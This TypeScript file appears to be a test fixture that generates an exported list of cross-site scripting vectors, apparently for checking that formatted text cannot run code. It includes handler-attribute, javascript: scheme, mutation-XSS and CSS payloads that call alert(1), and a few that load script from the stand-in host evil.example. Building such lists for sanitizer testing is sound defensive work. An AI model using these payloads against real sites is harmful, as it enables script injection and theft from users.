/** Ways in which formatted text was made to run code: each calls `alert` where it works (runtime.md S30). */
const call = 'alert(1)'
const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter', 'onauxclick', 'onscrollend', 'onbeforematch']
const carriers = ['p', 'a', 'img src=x', 'span style="animation-name:x"', 'table', 'td', 'figure', 'blockquote', 'br', 'hr']
const foreign = ['svg', 'math', 'iframe', 'object', 'embed', 'video', 'audio', 'details open', 'input autofocus', 'select autofocus', 'textarea autofocus', 'marquee', 'body', 'form', 'button', 'isindex', 'keygen', 'base', 'link', 'meta', 'custom-element']
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '&#106;avascript:', '&#x6A;avascript:', ' javascript:', '\u0001javascript:', 'data:text/html,<script>', 'vbscript:', 'blob:', 'filesystem:', 'view-source:javascript:', '//evil.example/', '\\\\evil.example\\']

export const xssVectors: readonly string[] = [
  ...carriers.flatMap((carrier) => handlers.slice(0, 6).map((handler) => `<${carrier} ${handler}="${call}">x</${carrier.split(' ')[0]}>`)),
  ...foreign.flatMap((element) => handlers.slice(0, 3).map((handler) => `<${element} ${handler}=${call} src=x href="javascript:${call}">x`)),
  ...schemes.flatMap((scheme) => [`<a href="${scheme}${call}">x</a>`, `<img src="${scheme}${call}">`, `<a href='${scheme}${call}' target=_self>x</a>`]),
  `<script>${call}</script>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`, `<SCRIPT>${call}</SCRIPT>`, `<script/x>${call}</script>`, `<<script>${call}//<</script>`,
  `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><style><img src=x onerror=${call}></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<template><img src=x onerror=${call}></template>`, `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<textarea></textarea><img src=x onerror=${call}>`, `<title></title><img src=x onerror=${call}>`, `<!--><img src=x onerror=${call}>-->`, `<![CDATA[><img src=x onerror=${call}>]]>`, `<?xml-stylesheet href="javascript:${call}"?>`,
  `<p style="background:url(javascript:${call})">x</p>`, `<p style="width:expression(${call})">x</p>`, `<p style="-moz-binding:url(//evil.example/x)">x</p>`, `<p style="color:red;behavior:url(x.htc)">x</p>`, `<p style="color:r\\65 d;position:fixed;inset:0">x</p>`,
  `<style>@import 'javascript:${call}';</style>`, `<link rel=stylesheet href=javascript:${call}>`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<base href="javascript:${call}//">`, `<iframe srcdoc="<script>${call}</script>">`,
  `<object data="data:text/html,<script>${call}</script>">`, `<embed src="data:image/svg+xml,<svg onload=${call}>">`, `<a href="#" style="position:absolute;width:9999px;height:9999px">x</a>`, `<p class="k-sidebar ant-modal">x</p>`, `<p id="root" name="token">x</p>`,
  `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `\`><img src=x onerror=${call}>`, `<img src="x\` \`<script>${call}</script>"\` \`>`, `<img src=x:x onerror=${call}//`, `<p/onclick=${call}>x`, `<p\u000bonclick=${call}>x`, `<p\u0000onclick=${call}>x`, `<im\u0000g src=x onerror=${call}>`,
]
